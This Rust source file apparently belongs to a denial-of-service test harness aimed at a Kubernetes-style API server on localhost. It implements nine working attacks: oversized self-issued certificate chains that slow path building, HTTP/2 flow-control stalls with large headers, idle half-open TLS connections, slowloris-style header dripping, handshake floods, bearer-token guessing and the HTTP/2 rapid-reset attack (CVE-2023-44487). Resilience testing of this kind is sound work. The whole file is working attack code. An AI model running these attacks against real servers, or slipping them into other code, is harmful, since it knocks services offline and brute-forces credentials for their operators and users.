//! The attacks.

use std::future::pending;
use std::rc::Rc;
use std::time::Duration;

use axum::body::Bytes;
use futures::future::LocalBoxFuture;
use h2::client::SendRequest;
use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa, KeyPair};
use rustls_pki_types::{CertificateDer, PrivateKeyDer};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::client::{Attacker, Identity};

type Attack = fn(Rc<Attacker>) -> LocalBoxFuture<'static, ()>;

/// Each goes on until it is dropped.
pub(crate) const ATTACKS: [(&str, Attack); 9] = [
    ("long-chains", |attacker| {
        let identity = long_chain();
        let chain = identity.map(|(chain, key)| (chain, Rc::new(key)));
        many(4, attacker, move |attacker| {
            let identity = chain.clone();
            Box::pin(async move {
                let identity = identity.map(|(chain, key)| (chain, key.clone_key()));
                show(&attacker, identity).await;
            })
        })
    }),
    ("answers-not-taken", |attacker| {
        many(4, attacker, |attacker| {
            Box::pin(async move { hold(&attacker, 0, 82, 290).await })
        })
    }),
    ("answers-taken-by-the-byte", |attacker| {
        many(4, attacker, |attacker| {
            Box::pin(async move { hold(&attacker, 1, 99, 8).await })
        })
    }),
    ("idle-connections", |attacker| {
        many(1000, attacker, |attacker| {
            Box::pin(async move {
                if let Ok(mut stream) = attacker.dial().await {
                    // The beginning of a TLS record that never ends.
                    let _ = stream.write_all(&[22, 3, 1, 2]).await;
                    let _ = stream.read(&mut [0; 64]).await;
                }
            })
        })
    }),
    ("slow-heads", |attacker| {
        many(500, attacker, |attacker| {
            Box::pin(async move { drip(&attacker).await })
        })
    }),
    ("handshakes", |attacker| {
        many(32, attacker, |attacker| {
            Box::pin(async move { drop(attacker.greet("h2", None).await) })
        })
    }),
    ("tokens", |attacker| {
        many(16, attacker, |attacker| {
            Box::pin(async move { guess_tokens(&attacker).await })
        })
    }),
    ("resets", |attacker| {
        many(8, attacker, |attacker| {
            Box::pin(async move { reset(&attacker).await })
        })
    }),
    ("long-heads", |attacker| {
        many(8, attacker, |attacker| {
            Box::pin(async move { hold(&attacker, 65_535, 64, 7_000).await })
        })
    }),
];

/// So many at a time, each again and again.
fn many(
    number: usize,
    attacker: Rc<Attacker>,
    attack: impl Fn(Rc<Attacker>) -> LocalBoxFuture<'static, ()> + 'static,
) -> LocalBoxFuture<'static, ()> {
    let attack = Rc::new(attack);
    Box::pin(async move {
        let mut tasks = JoinSet::new();
        for _ in 0..number {
            let (attacker, attack) = (attacker.clone(), attack.clone());
            tasks.spawn_local(async move {
                loop {
                    attack(attacker.clone()).await;
                    // A server that refuses at once isn't asked in a busy loop.
                    sleep(Duration::from_millis(5)).await;
                }
            });
        }
        pending::<()>().await;
    })
}

/// 339 certificates that could all be each other's issuer: a path can be built in very many ways.
fn long_chain() -> Option<Identity> {
    let mut keys = Vec::new();
    let mut chain = Vec::new();
    for _ in 0..339 {
        let mut params = CertificateParams::new(Vec::new()).ok()?;
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let key = KeyPair::generate().ok()?;
        let own = key.serialize_der();
        let issuer = CertifiedIssuer::self_signed(params, key).ok()?;
        chain.push(CertificateDer::from(issuer.der().to_vec()));
        keys.push(own);
    }
    let key = PrivateKeyDer::Pkcs8(keys.swap_remove(0).into());
    Some((chain, key))
}

/// A handshake with a chain, and a request, which Go's server waits for before it looks at the chain.
async fn show(attacker: &Attacker, identity: Option<Identity>) {
    if let Ok(mut stream) = attacker.greet("http/1.1", identity).await {
        attacker.requested();
        let request = b"GET /apis HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
        if stream.write_all(request).await.is_ok() {
            let _ = stream.read_to_end(&mut Vec::new()).await;
        }
    }
}

/// Requests on one connection, with a header of so many bytes, of which no more than the window is taken; kept for 2 s.
async fn hold(attacker: &Attacker, window: u32, number: usize, header: usize) {
    let Ok(requests) = attacker.http2(window).await else {
        return;
    };
    let mut held = Vec::new();
    for _ in 0..number {
        let path = format!("/apis/custom.metrics.k8s.io/{}", "a".repeat(900));
        match request(attacker, &requests, &path, &"a".repeat(header)).await {
            Some(answer) => held.push(answer),
            None => break,
        }
    }
    sleep(Duration::from_secs(2)).await;
}

async fn request(
    attacker: &Attacker,
    requests: &SendRequest<Bytes>,
    path: &str,
    token: &str,
) -> Option<h2::client::ResponseFuture> {
    // A server grants few streams at a time; then this waits.
    let ready = requests.clone().ready();
    let ready = tokio::time::timeout(Duration::from_millis(200), ready);
    let mut requests = ready.await.ok()?.ok()?;
    let request = http::Request::get(format!("https://localhost{path}"))
        .header("authorization", format!("Bearer {token}"))
        .body(())
        .ok()?;
    attacker.requested();
    requests
        .send_request(request, true)
        .ok()
        .map(|(answer, _)| answer)
}

/// A head that never ends, a byte at a time.
async fn drip(attacker: &Attacker) {
    let Ok(mut stream) = attacker.greet("http/1.1", None).await else {
        return;
    };
    attacker.requested();
    let mut next = &b"GET / HTTP/1.1\r\nX: "[..];
    while stream.write_all(next).await.is_ok() && stream.flush().await.is_ok() {
        next = b"a";
        sleep(Duration::from_secs(1)).await;
    }
}

/// 1000 requests, each with another unknown token.
async fn guess_tokens(attacker: &Attacker) {
    let Ok(requests) = attacker.http2(65_535).await else {
        return;
    };
    for _ in 0..1000 {
        // The number of requests is another one each time.
        let token = attacker.done();
        let answer = request(attacker, &requests, "/apis/custom.metrics.k8s.io", &token);
        let Some(answer) = answer.await else { return };
        if answer.await.is_err() {
            return;
        }
    }
}

/// Requests that are given up as soon as they are sent (CVE-2023-44487).
async fn reset(attacker: &Attacker) {
    let Ok(requests) = attacker.http2(65_535).await else {
        return;
    };
    for _ in 0..1000 {
        match request(attacker, &requests, "/apis/custom.metrics.k8s.io", "a").await {
            Some(answer) => drop(answer),
            None => return,
        }
        tokio::task::yield_now().await;
    }
}
